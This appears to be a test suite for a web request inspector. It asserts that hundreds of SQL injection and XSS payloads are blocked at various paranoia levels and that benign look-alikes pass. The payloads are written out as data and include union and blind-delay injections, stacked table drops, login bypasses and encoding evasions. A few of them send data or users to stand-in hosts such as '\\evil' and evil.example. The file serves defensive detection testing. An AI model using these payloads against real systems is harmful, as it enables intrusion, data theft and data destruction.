import { test } from 'node:test';
import assert from 'node:assert/strict';
import { totalScore } from '../../src/detect/score.js';
import { everywhere, inspect, type Req } from './helpers.js';

// SQL injection and XSS attack classes, each next to benign values that share its words or punctuation.
// PL1 classes block at the default paranoia; PL2 classes are fragments and probes that block from paranoia 2.

const SQLI_PL1: Record<string, string[]> = {
  'alternating case (filter evasion)': ['uNioN sElecT', 'UnIoN SeLeCt\n', 'SeleCT sLeEp (mOD(10,5))', 'sELecT slEep ("10")'],
  'union after a string break': ["24'union all select 1,2,3 from aa"],
  'boolean after a break, then a terminator': ["' or true; foo", "admin\\' or json_valid (id);", "admin\\' or glob (id,id);"],
  'stacked session variables': [';SET @OLD_SQL_MODE=0', '; set @a = 1'],
  'SQLite == tautology': ['or 4975==4975'],
  'PostgreSQL casts of calls (error-based)': ["starts_with(password,'a')::int", "encode(lo_get(16400),'base64')::int", 'function(foo)::double precision'],
  'JSON functions and operators in a condition': ["OR json_extract('{\"id\": 14}', '$.name') = 'Aztalan'", "OR '{\"a\":\"b\"}' ? 'a'", "'{\"a\": {\"b\": [1]}}'::json #>> '{a,b,1}'"],
  'MySQL procedure analyse': ['procedure analyse ('],
  'hex-encoded strings in a statement': ['select 0x616263'],
  'Oracle dynamic SQL': ["EXECUTE IMMEDIATE '", "execute immediate 'drop table x'"],
  'comment hiding a condition': ['9999 or /*+optimizer hint*/ true'],
  'versioned comment in a statement': ['SELECT /*!32302 1/0, */ 1 FROM tablename'],
  'a whole value that is an always-true comparison written as code': ['1=1', '3 = 3', '42 like 42', '42<=>42', '11!=1', '1 is not 2', "'1' not regexp '2'", "'x'!='y", "'a'='a'"],
  'a dangling condition with xor, ||, or a quoted operand': ['xor 2 <', "or 'a' <", 'xor 99>', "xor 'test'>", '|| 1 =='],
  "a condition cut at the quote that opens the application's value": ['OR name = "', "AND engine = '", 'and code != "', 'AND ( name = "'],
  'a value that closes a parenthesis and continues the query': [') like (', ')=(', ') when 234 then', ') AS orders FROM', ') as cc from'],
  'conditions on aggregates, tautologies appended to a list': [' HAVING COUNT(CustomerID) > 5', 'having max(price) >= 10', 'b,1=1', "'admin', '1'='1'"],
  'numeric-context conditions': ['1 AND (1)=(1)', '1 AND LENGTH(database())>5', "1 AND CHR(65)||CHR(66)='AB'", '1 XOR 1', '1 or true', '1) ORDER BY 1--', '1 ORDER BY 1#', '1 ORDER BY 1', '1 order by 1,2,3', '1 limit 1', '1 LIMIT 0,1'],
  'JSON documents compared with JSON paths, package calls concatenated after a break': [`'{"a":2,"c":[4,5,{"f":7}]}' < '$.c[2].f' = 7`, "'||UTL_HTTP.request('http://x.y')||'"],
  'login bypasses comparing the two quoted halves, union modifiers': ["'='", "'LIKE'", "1' union distinctrow select 1"],
  'server information passed into another call (error-based extraction)': ['1 OR 1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)', 'extract(concat(database(), 1))'],
  'probes that are one call: server information, character codes, opened and cut': ['version()', 'db_name()', 'concat(0x7e,version())', 'chr(123)', 'concat(', 'GROUP_CONCAT('],
  'conditional subqueries and sorts, server variables, a stacked delete': ['1 and 1=(select case when (1=1) then 1 else 1/0 end)', '1 order by (case when (1=1) then 1 else 2 end)', '@@version', '1; delete from users'],
  'calls in parentheses after a logic operator': ['||(elt(-3+5,bin(15),ord(10),hex(char(45))))', 'AND 5650=CONVERT(INT,(SELECT 1))--'],
  'statements hidden by comments and reserved words': ['DECLARE/**/@x', 'select/**/@@version', ';INSERT INTO table (col) VALUES', '1.e(ascii)'],
  'MSSQL variables declared, statements opened after a terminator and cut where the table follows': ['declare @b', 'DECLARE @b varchar(8000)', 'declare @t table', '; insert into', ';delete from'],
  "subqueries and row constructors cut where the application's query continues": ['in ( select * from', 'IN (SELECT count(*) FROM', 'except values(1,2)', "1 union values('a','b')"],
  'conditions only SQL writes: IF over a constant compared with =, a SQL call appended to a list, a user name cast to int': ['if(2=', 'IF(1=1,SLEEP(5),0)', "if('a'='a'", ", FIND_IN_SET('22', Category )", ', md5(password)', '1 current_user::int', 'session_user::integer'],
  'SQLite/PostgreSQL postfix null tests after a break, and a dangling condition the closing quote completes': ["' notnull --", "x' isnull--", "' * from = 1 or '9", "admin' = 1 or 'a", "' or '' '"],
  "login bypasses doing arithmetic on the application's two quoted halves": ["'-'", '"-"', "'*'", "'&'", "'^'", "'-0||'"],
  'insert values continued after a break or a number, conditional sorts on a constant, Oracle packages compared': ["x', 'admin')--", "x'),('admin','pw')--", "test'), (1, 'a', 'b')#", '1,1,1)--', '(CASE WHEN (1=1) THEN id ELSE name END)', 'case when 1=1 then 1 else 2 end', '1 and 1=ctxsys.drithsx.sn(1,1)', '1 AND 1=DBMS_UTILITY.SQLID_TO_SQLHASH(1)', '1;SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) FROM DUAL--'],
  'delays with their arguments, spaced or cut': ['sleep (5)', 'SLEEP(5', 'pg_sleep(5*2)', 'benchmark(5000000,md5(1))', 'sleep(5)+1', 'randomblob(500000000/2)'],
  "a query's tail and a condition cut at the application's quote, in SQL capitals": ['FROM termine GROUP BY tag1', 'FROM users WHERE id = 1', "something LIKE '"],
  "a query's tail naming the table as MySQL quotes a database's table": ['from `db_miwf`.`sys_refindex` limit', 'from `shop`.`users` where id = 1', 'from [dbo].[users] order by 1'],
  'a number aliased and selected from a table, in capitals': ['1234 AS "foobar" FROM tablevar2=whatever', '5 AS total FROM orders'],
  'IF/IIF over two constants with its branches, a comparison operand opened as a subquery': ["SELECT IIF(1 > 1, 'TRUE', 'FALSE' )", 'IIF(1>0,1,0)', 'if(2<1,sleep(5),0)', "id = ( SELECT", '1<>(select'],
  "a quoted literal compared with one the application's closing quote completes (the false half of a blind pair)": ["'1'='2", "'abc'<>'abd", "'3085'='30"],
  'a condition with an operator only SQL has after a break, cut or terminated': ["'glob 1;", "x' RLIKE 0", "admin' regexp 1;"],
  'a backtick-quoted identifier closed by the value, then a terminator, a SQL-only operator or a new condition': ['admin@example.com`;', 'id`;--', 'name`; drop table users', '` REGEXP ', "` RLIKE '^a'", '` < 0) AND `', '` = 1 or 1=1'],
  "sqlmap's heuristic check: both quotes together at the end of the value": ['"\'', "'\"", '1,(\')"(.)', 'abc).\'"),(.', '42"(\'.,'],
  'the number that hangs PHP and Java float parsers': ['2.2250738585072011e-308', '2.2250738585072012e-308', '0.00022250738585072012e-304', '-2.22507385850720119999e-308'],
  'negated comparisons, probes that are one call, MSSQL concatenation and backups, a whole-value waitfor': ['1 AND NOT 1=2', 'and not 1=1', '1 AND ISNULL(NULL)', "ad'+'min", "1; BACKUP DATABASE master TO DISK='\\\\evil\\x.bak'--", "WAITFOR DELAY '0:0:5'"],
};

const SQLI_PL2: Record<string, string[]> = {
  'condition right-hand sides': ['IS NULL', 'LIKE NULL', 'in (0,1)', ' IN (815914, 815913)\n', 'not between 1 and 2'],
  'select-list and clause tails': ['x AS orders FROM', 'x AS `documentType` FROM', 'from termine group by tag1', 'from `sys_refindex` limit', 'from db.t limit', 'having count > 5', 'name like \''],
  'alternating-case clause words': ['ORder by', 'ordeR by'],
  'a value that opens with a break into SQL': ["'alter a", "' union/", '" UNION A'],
  'casts and number evasions': ['password::int', '1.e.tables'],
  'conditionals and literal comparisons': ['case when condition1 then result1', 'AND deleted = 0)', '||(c=!1)', '1 is not 1', "'1' not regexp '1'", '1 is null', 'in (select id from', 'x except values (1, 2)'],
  'a function call opened and cut': ['ABS(', 'date(', 'round (', 'COUNT('],
  'statements cut at their first word, session variables, identifiers closed into a select list': [';drop', ' SET @OLD_SQL_NOTES', '(select', '( SELECT', '` AS `edit_user_id` from'],
};

const XSS_PL1: Record<string, string[]> = {
  'tagged-template calls': ['[].sort.call`${alert}1337`', '[  ] . sort . call ` ${ alert } 1337 `', 'Reflect.apply.call`${navigation.navigate}${navigation}${[name]}`', 'Reflect.sort.call``'],
  'members split by comments': ['document /*foo*/ . cookie', 'document/*foo*/./*bar*/cookie'],
  'UTF-7 tags': ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  'globals called through a string index': ['self["al"+"ert"](1)', "top['eval']('x')"],
  'globals indexed with a key hidden by escapes or pieces': ['self["\\x24"]', "top['al'+'ert']", 'window["\\u0061lert"]'],
  'an event handler opening a new attribute in an unquoted one': ['  onload= =vardata', ' onmouseover=alert(1)', '\tonwebkitplaybacktargetavailabilitychanged=x'],
  'tag names spelled with spaces': ['<f o r m action=x>', 'foo<s c r i p t>', '$<d i a l o g', '< x: script'],
  'data: URLs carrying markup': ['data: , <x>', 'data:text/plain;charset=utf-8,<b>hi</b>'],
  'the whole value is a sink call': ['alert(1)', 'prompt()', 'confirm(document.domain)', 'setInterval(code, 1)', 'atob("YWxlcnQoMSk=")', 'btoa()'],
  'identifiers written with \\u escapes': ['\\u0061lert(1)', '"in \\u0076\\u0061l\\u0075e\\u004F\\u0066=', 'document.\\u0063ookie=1'],
  'a comment closed as the whole value': ['-->', '"-->', '--!>'],
  'short JSFuck': ['+!![]', '(![]+[])[+!+[]]'],
  'a sink passed, assigned or called indirectly': ['throw onerror=alert,1', '[1].find(alert)', 'Reflect.apply(alert,null,[1])', '(alert)(1)', 'alert?.(1)', 'new Function`alert\\`1\\``', 'a=alert,a(1)', 'x=eval;x(name)', "location.href='//evil.example'"],
  'a DOM write as the whole value': ['document.querySelector("p").textContent="XSS"', "document.getElementById('x').innerHTML=location.hash"],
};

const XSS_PL2: Record<string, string[]> = {
  'bare DOM properties and string-indexed globals': ['window.location', 'document.cookie', 'self["$"]'],
};

const BENIGN: string[] = [
  // SQL words in prose and data
  'how does a union select work', 'Moved the helper to lib/format/date.ts; update your imports.', 'Union members get 10% off; select the member option at checkout.',
  'Order by date', 'Group by size', 'ORDER BY', 'from Paris with love', 'Two boxes (fragile) as agreed from Monday on', 'in progress', 'is not available', 'like new',
  'in case when it rains then we stay home', 'Case closed', 'Where is my order?', 'having fun', 'values matter', "I'd like 'em both", 'std::string and Vec::new',
  'version 1.2.3', 'Execute the plan', 'exec chair', 'execute order', 'I declare @bob the winner', 'declare @bob the winner', '=IF(A1=1,1,0)', 'if (1 < 2) then', ', and then (some)',
  ', date(2020)', 'Fixed it; update users', "'-' is a dash", "a '*' marks required fields", "use '&' to join", 'a-b', "'-1", "it's or 'not", "it's '+' sign", "a'+'b c", 'backup database to the cloud', "'|'", "'/'", "'+'", "'%'", "'-1'", "'+1'", '2 as "gifts" from Mom', '2 AS "gifts" from Mom', 'known as "Bob" from Texas', "O'Brien, 'Jr')#", '1,2,3)', 'see (1, 2)--', 'Sizes 1,2,3)--', "Any arguments after `'--'` will not be parsed", "Notice that a line starting with `'#'`(hash) is treated as a comment.", "it's 5 > 3 or 'maybe", "O'Brien = boss or 'not", "Don't know or 'care", 'notnull', 'isnull', 'in (select one)', 'available in (select sizes)', 'the union of two sets', 'json', 'sin city', 'log in', 'Conor O\'Brien', 'x >= 3', 'a != b',
  // JavaScript and HTML words in prose and data
  'window.location is undefined in my app', 'Use `Function.prototype.call` to invoke it', 'See section 2.1 (document) for details', 'self-service portal',
  'top 10 results', 'C++ operators: a+b, a+=b', '¼ cup sugar, ¾ cup flour', 'price 1¼ – 1¾ €',
  // comparisons and logic words in ordinary text; curly apostrophes
  '2>1', '1 < 2', 'or 2 more', '(Select one)', 'Delete from cart', '2 limit 3 per customer', '1 order by date', 'Prix 10\u00a0€ or so', 'and (count(x))', '@@', 'set @john as admin', "x'='", 'Math.floor(Math.random()*2)', '`SELECT * FROM orders` is slow', "O'Brien or jane.doe (2)", '1 or 2 items', 'and 3 others', 'x or y', 'It’s John’s order, don’t ship it', 'O’Brien’s café', 'the ‘best’ one',
  // look-alikes of the evasion shapes: labels with a parenthesis, arrows, comparisons, escapes that are not code
  // quotes, backticks and numbers near the probes above: quoted text, markdown spans, DBL_MIN, a C condition
  'She said "it\'s fine"', '"quoted"\'', "'single' and \"double\"", '(\'a\', "b")', '`foo`;`bar`;`def`', 'run `npm test`; then push', '`x` = 1 or `y`', '` is the backtick', '`>65', 'it`s done;', '`;', '  </div>`;', '${err.message}`;', 'import glob from \'glob\'', '"GET">\'x', '"a"=\'b c',
  '2.2250738585072014e-308', '2.225073858507201e-308', '22250738585072.5', "'yes' = 'no", "'a' = 'b' is false", 'if (1 > 2) return', 'price = (select one)',
  "it's like 1;", "the 'like' button", 'from `lodash` where needed', 'copied from `db`.`users` ordered by name', 'from `src`.`lib` group of files', "parents' glob", 'Alert(s)', 'Confirm (2 items)', 'Import(CSV)', 'Fetch(all)', 'Confirm(yes)', 'ALERT(1)', 'alert(s) and prompt(s)', 'A --> B --> C', '--> see above', 'if (a < b) return a',
  'i < f.length', '< 5 items left', 'a < b c d', 'data: none, <empty>', 'Data: 3 rows, <br> missing', ' online=true', '  onboarding=done',
  'Unicode escapes look like \\u00e9 or \\u2019', 'C:\\Users\\u0041dmin is a folder name', '+1', '[]', '!!', '(+)',
  'document.title is empty', 'Set level (alert) (see docs)', 'Severity: alert, then page', 'How do I use Function`...` tagged templates', 'location = "Dublin"',
  'the onerror = alert pattern', 'alert? (yes/no)', 'level=alert; level (high)',
];

function check(classes: Record<string, string[]>, paranoia: number, attack: boolean): void {
  for (const [name, payloads] of Object.entries(classes)) {
    for (const p of payloads) {
      for (const r of everywhere(p)) {
        const res = inspect(r, { paranoia });
        assert.equal(res.attack, attack, `${name} at paranoia ${paranoia}: ${JSON.stringify(p)} (${JSON.stringify(r).slice(0, 60)}) → ${JSON.stringify(res.findings)}`);
      }
    }
  }
}

test('SQL injection classes block at paranoia 1', () => check(SQLI_PL1, 1, true));
test('SQL fragments and probes block at paranoia 2, not at the default', () => {
  check(SQLI_PL2, 2, true);
  check(SQLI_PL2, 1, false);
});
test('XSS classes block at paranoia 1', () => check(XSS_PL1, 1, true));
test('8-bit tags that old IE read as US-ASCII (top bit dropped) block', () => {
  const p = '\u00bcscript\u00bealert(1)\u00bc/script\u00be';
  for (const r of [{ query: `q=${encodeURIComponent(p)}` }, { body: `f=${encodeURIComponent(p)}`, contentType: 'application/x-www-form-urlencoded' }]) assert.ok(inspect(r).attack, JSON.stringify(r));
  // the same characters as UTF-8 pairs read one byte at a time (Â¼script Â¾)
  const utf8 = p.replace(/[\u00bc\u00be]/g, (c) => `\u00c2${c}`);
  assert.ok(inspect({ query: `q=${encodeURIComponent(utf8)}` }).attack);
});
test('XSS probes block at paranoia 2', () => check(XSS_PL2, 2, true));

test('whole SQL statements (saved queries, snippets) pass at the default paranoia', () => {
  for (const q of [
    "SELECT id, subject FROM tickets WHERE status = 'open' AND priority = 'urgent' ORDER BY created_at DESC",
    "SELECT COUNT(*) AS refunds FROM payments WHERE type = 'refund' AND created_at >= now() - interval '7 days'", 'SELECT COUNT(*) FROM orders WHERE total > 100;',
  ]) {
    for (const r of everywhere(q)) assert.equal(inspect(r).attack, false, q);
  }
});

test('benign look-alikes pass at paranoia 1 and 2 (SQL injection and XSS findings)', () => {
  for (const b of BENIGN) {
    for (const paranoia of [1, 2]) {
      for (const r of everywhere(b)) {
        const mine = inspect(r, { paranoia }).findings.filter((f) => f.category === 'sqli' || f.category === 'xss');
        assert.ok(totalScore(mine) < 5, `false positive at paranoia ${paranoia}: ${b} → ${JSON.stringify(mine)}`);
      }
    }
  }
});

test('look-alikes of the shapes that block at paranoia 1 (code, prose, probes of paranoia 2) pass at the default', () => {
  for (const b of ['if (a == 1)', 'if(x=5)', 'all except values (1, 2)', 'current_user::text', 'password::int', 'in (select id from', 'declare @bob the winner', 'x AS orders FROM', '1 and coalesce(a, b) stuff', 'case when x then y', 'v := utl_http.request(url);', 'from the group by the river', "I like '", "I LIKE '", 'sleep (8 hours) is important', 'benchmark (2024)', 'Run the benchmark (requires Node 18)', 'sleep (7.5 hours a night)']) {
    for (const r of everywhere(b)) {
      const mine = inspect(r).findings.filter((f) => f.category === 'sqli');
      assert.ok(totalScore(mine) < 5, `false positive: ${b} → ${JSON.stringify(mine)}`);
    }
  }
});

test('code lines quoting strings are not string breaks: anchors, flags, colours, SQL passed to a driver, quoted keywords', () => {
  const lines = [
    '<a href="#" target="_blank">', '* <a href="#api">API</a>', "style.color.ansi16m.hex('#C0FFEE'); // Hex (RGB)", "parser.add_argument('-v', '--version', { action: 'version', version });",
    "hasFlag('--unicorn');", "shebangCommand('#!/usr/bin/env node');", "$ref: '#/definitions/str'", "const row = db.prepare('SELECT * FROM users WHERE id = ?').get(userId);",
    "pool.query('SELECT NOW()')", "//    command: { name: 'exec', args: [] },", "isExtglob('+(abc)');", "node.add(' + ');", "Only 3 parameters allowed.');",
    "var withArray = qs.parse('a[]=b&a[]=c');", 'Use "ORDER BY created_at DESC" to sort', "assert.equal(qs.stringify({ a: 'b', c: 'd' }, { addQueryPrefix: true }), '?a=b&c=d');", 'This error will occur when the request body\'s size is larger than the "limit"',
  ];
  for (const l of lines) {
    for (const r of everywhere(l)) {
      const mine = inspect(r).findings.filter((f) => f.category === 'sqli');
      assert.ok(totalScore(mine) < 5, `false positive: ${l} → ${JSON.stringify(mine)}`);
    }
  }
  // a comment that only ends with a quote balances the payload's quotes; a statement after a break still counts
  for (const p of ["' = # '", "admin'--", "' or 1=1 -- '", "x' union select 1,2--", "1') order by 1--", "1';", "John Smith';", "x');", "x'+(select 1)+'"]) for (const r of everywhere(p)) assert.ok(inspect(r).attack, p);
});

test('a statement word starting a sentence after a semicolon is not evidence; cut right after its object it is', () => {
  const sentence = inspect({ body: JSON.stringify({ comment: 'Moved the helper; update your imports.' }), contentType: 'application/json' });
  assert.equal(sentence.findings.filter((f) => f.category === 'sqli').length, 0, JSON.stringify(sentence.findings));
  const probe = inspect({ query: `q=${encodeURIComponent(';update users')}` });
  assert.ok(probe.findings.some((f) => f.rule === 'sqli.stacked-query'));
  assert.ok(inspect({ query: `q=${encodeURIComponent('; update users set role = 1')}` }).attack);
});

test('a whole saved query scores 4: it blocks only from paranoia 2 (fields that should not carry code); its calls add nothing', () => {
  const saved: Req = { body: JSON.stringify({ sql: "SELECT COUNT(*) AS refunds FROM payments WHERE created_at >= now() - interval '7 days'" }), contentType: 'application/json' };
  assert.equal(inspect(saved).score, 4);
  assert.equal(inspect(saved).attack, false);
  assert.equal(inspect(saved, { paranoia: 2 }).attack, true);
  assert.equal(inspect(saved, { paranoia: 2, exclusions: [{ rule: 'sqli.statement', location: 'body:/sql' }] }).attack, false);
  // the same statement reached by a break out of a string is an attack at any level
  assert.ok(inspect({ query: `q=${encodeURIComponent("x' UNION SELECT COUNT(*) FROM payments--")}` }).attack);
});

test('bare SQL operators count only from paranoia 3 and block alone at 4', () => {
  for (const op of ['<>', '||', '<=>', '!=', '>=']) {
    const r: Req = { body: JSON.stringify({ v: op }), contentType: 'application/json' };
    assert.equal(inspect(r, { paranoia: 2 }).findings.some((f) => f.rule === 'sqli.operator'), false, op);
    assert.equal(inspect(r, { paranoia: 4 }).attack, true, op);
  }
});

test('code found where a parameter name should be counts as certain: a form key, a JSON key, a key inside a key', () => {
  const keys: Req[] = [
    { body: 'ORder by', contentType: 'application/x-www-form-urlencoded' },
    { body: 'ABS(', contentType: 'application/x-www-form-urlencoded' },
    { body: JSON.stringify({ 'having count > 5': 'foo' }), contentType: 'application/json' },
    { query: `${encodeURIComponent('case when condition1 then result1')}=1` },
    { body: `${encodeURIComponent('pay=AND deleted = 0)')}`, contentType: 'application/x-www-form-urlencoded' },
    { headers: { cookie: 'ORder by=1; sid=abc' } },
    { query: `${encodeURIComponent('having count > 5')}=1` },
    // (a && inside a parameter string is part of its value, not two separators)
    { body: `${encodeURIComponent('pay=&&(l=!0)')}`, contentType: 'application/x-www-form-urlencoded' },
    // (a terminator after an operator, then a statement cut after its table)
    { body: `${encodeURIComponent('pay=;update users')}`, contentType: 'application/x-www-form-urlencoded' },
    // (a procedure run: execute php as a form name, exec sp_who as a query name)
    { body: 'execute php', contentType: 'application/x-www-form-urlencoded' },
    { query: 'exec%20sp_who' },
  ];
  for (const r of keys) assert.ok(inspect(r).attack, JSON.stringify(r));
  // the same text as a value is a fragment: it blocks from paranoia 2
  for (const v of ['ORder by', 'ABS(', 'having count > 5', 'case when condition1 then result1', 'AND deleted = 0)', '&&(l=!0)']) {
    for (const r of everywhere(v)) {
      assert.equal(inspect(r).attack, false, `${v} ${JSON.stringify(r)}`);
      assert.equal(inspect(r, { paranoia: 2 }).attack, true, `${v} ${JSON.stringify(r)}`);
    }
  }
  // ordinary names: result columns named after their expression, sort keys, SQL words as names, ORM lookups
  const names: Req[] = [
    { body: JSON.stringify({ rows: [{ 'count(*)': 12, 'sum(total)': 340, 'date(created_at)': '2024-05-01', 'max(price)': 9 }] }), contentType: 'application/json' },
    { body: JSON.stringify({ select: ['id', 'name'], from: 'orders', where: { status: 'open' }, order_by: 'created_at', limit: 10 }), contentType: 'application/json' },
    { query: 'order_by=date&group=size&select=id,name&in=stock' },
    { query: `q=${encodeURIComponent('a=1&&b=2')}` },
    { body: 'name=x&user[born_on(1i)]=1990&user[born_on(2i)]=5', contentType: 'application/x-www-form-urlencoded' },
    { query: 'name__icontains=bob&created_by__departments__employees__user__username__startswith=p' },
    // a map of searches keyed by their text; a search for an executive chair
    { body: JSON.stringify({ searches: { 'exec chair': 12, 'execute order': 3 } }), contentType: 'application/json' },
    { query: `q=${encodeURIComponent('exec chair')}` },
    // a map of query statistics keyed by query text: SQL as data in a name is as ordinary as in a value
    { body: JSON.stringify({ 'SELECT * FROM users WHERE id = $1': { calls: 120 }, 'SELECT COUNT(*) FROM orders': { calls: 3 } }), contentType: 'application/json' },
  ];
  for (const r of names) assert.equal(inspect(r).attack, false, JSON.stringify(r));
});

test('quote look-alikes that a charset conversion turns into quotes break out like the quote', () => {
  // (and a no-break space, which MySQL reads as white space)
  for (const p of ['1’ OR ’1’=’x’#;--()', '’ OR ’1’=’x’--', '1´ OR ´1´=´x´#', '1‘ OR ‘1‘=‘1', '’ #-', "1'\u00a0or\u00a01=1--"]) {
    for (const r of [{ query: `q=${encodeURIComponent(p)}` }, { body: `f=${encodeURIComponent(p)}`, contentType: 'application/x-www-form-urlencoded' }, { headers: { cookie: `id=${p}` } }]) {
      assert.ok(inspect(r).attack, `${p} ${JSON.stringify(r)}`);
    }
  }
  for (const p of ['It’s John’s order, don’t ship it', 'O’Brien’s café', 'the ‘best’ one', 'Rock ’n’ roll or jazz', '5´ 3´´ tall']) {
    for (const paranoia of [1, 2]) assert.equal(inspect({ query: `q=${encodeURIComponent(p)}` }, { paranoia }).attack, false, p);
  }
});

test('prose about SQL injection quoting its payloads is writing, not a payload: medium at most', () => {
  const article =
    "Our security training covers SQL injection. The classic example is a login form where the attacker types ' OR '1'='1' -- into the password field, so the query becomes SELECT * FROM users WHERE name = 'admin' AND password = '' OR '1'='1'. Parameterised queries prevent this.\n\nAnother example is UNION SELECT username, password FROM users, which reads another table. Please review the attached slides before Friday.";
  for (const r of everywhere(article)) {
    for (const paranoia of [1, 2]) {
      const mine = inspect(r, { paranoia }).findings.filter((f) => f.category === 'sqli');
      assert.ok(totalScore(mine) < 5, `paranoia ${paranoia}: ${JSON.stringify(mine)}`);
    }
    assert.ok(inspect(r, { paranoia: 4 }).attack);
  }
  // a payload with a sentence around it is still a payload
  for (const p of ["admin' OR '1'='1' -- thanks", "Search: x' UNION SELECT username, password FROM users--. It shows all users."]) {
    for (const r of everywhere(p)) assert.ok(inspect(r).attack, p);
  }
});

test('a path segment that is a numeric-context condition', () => {
  for (const path of ['/api/items/1 XOR 1', '/api/items/1%20or%20true', '/api/items/1 and 1 like 1']) assert.ok(inspect({ path }).attack, path);
  for (const path of ['/docs/2 or 3 things', '/blog/10 and counting']) assert.equal(inspect({ path }).attack, false, path);
});

test("a string break in a path segment written with + for spaces (a path rewritten into a query parameter)", () => {
  for (const path of ["/post/foo/24'union+all+select+1,2,3+from+aa", "/post/foo/24'union+all+select+1,2,3+from+aa/bar", "/item/1'+or+1=1--", "/p/x'+and+sleep(5)--"]) assert.ok(inspect({ path }).attack, path);
  // + between words is ordinary in paths; without a break the + reading is not taken
  for (const path of ['/search/select+specialty+hospital', '/q/select+specialty+hospital', "/tags/O'Brien+or+Smith", "/wiki/Rock'n'roll+and+jazz", '/search/c++', "/p/don't+select+all+from+here", '/docs/union+select+explained']) {
    assert.equal(inspect({ path }).attack, false, path);
  }
});

test('a last path segment that is a SQL probe call or a server variable; OData and wiki paths are not', () => {
  for (const path of ['/api/items/version()', '/api/items/@@version', '/api/items/database()', '/search/concat(', "/login/'-'", "/login/'='", "/user/' or '' '"]) assert.ok(inspect({ path }).attack, path);
  for (const path of ['/odata/Products(1)', "/odata/Customers('ALFKI')", "/_api/web/lists/GetByTitle('Documents')", '/odata/Products/Default.MostExpensive()', '/wiki/Count_(music)', '/wiki/Sleep_(film)', "/wiki/O'Brien", "/artists/Guns_N'_Roses", "/search/'hello'", "/q/'quoted phrase'", "/x/'90s", '/api/v1/sum(total)', '/docs/md5(x)', '/@@']) {
    assert.equal(inspect({ path }).attack, false, path);
  }
});

test('an expression a reporting API stores (one closed call over columns) is high, not certain', () => {
  for (const e of ['coalesce(price, 0)', "concat(first_name, ' ', last_name)", 'md5(email)', 'now()', 'count(*)', 'sum(total)']) {
    for (const r of everywhere(e)) assert.equal(inspect(r).attack, false, e);
  }
});

test('a value URL-encoded twice is read as the application decodes it again, with + as a space', () => {
  // (the form body's own decoding leaves %27, %3D, %60 and the + that %2B was; a second form decoding makes it a space)
  for (const body of ['q=FROM%2B%2560users%2560%2BWHERE%2Bid%253D1', 'q=1%2BAND%2B1%253D1', 'pay=FROM%2B%2560oxattribute%2560%2BWHERE%2BCONVERT%2528%2560oxattribute%2560.%2560OXID%2560%2BUSING%2Butf8%2529%2B%253D%2B%2527n550a%2527%2BLIMIT']) {
    assert.ok(inspect({ body, contentType: 'application/x-www-form-urlencoded' }).attack, body);
  }
  // + in a value encoded once is a plus; encoded twice around words and tokens it makes no SQL
  for (const body of ['q=1%2BAND%2B1%3D1', 'next=%2Fsearch%253Fq%253Dselect%2Bspecialty%2Bhospital', 'token=ab%2BOr%2B1%253D%253D', 'state=a%2Bb%253D%2526c%253Dd', 'expr=1%2B1%253D2']) {
    assert.equal(inspect({ body, contentType: 'application/x-www-form-urlencoded' }).attack, false, body);
  }
});

test('the second decoding is read only where a form decoder runs: in JSON a + was never a space', () => {
  const json: Req = { body: JSON.stringify({ q: 'FROM+%60users%60+WHERE+id%3D1' }), contentType: 'application/json' };
  assert.equal(inspect(json).attack, false);
  assert.ok(inspect({ query: 'q=FROM%2B%2560users%2560%2BWHERE%2Bid%253D1' }).attack);
});
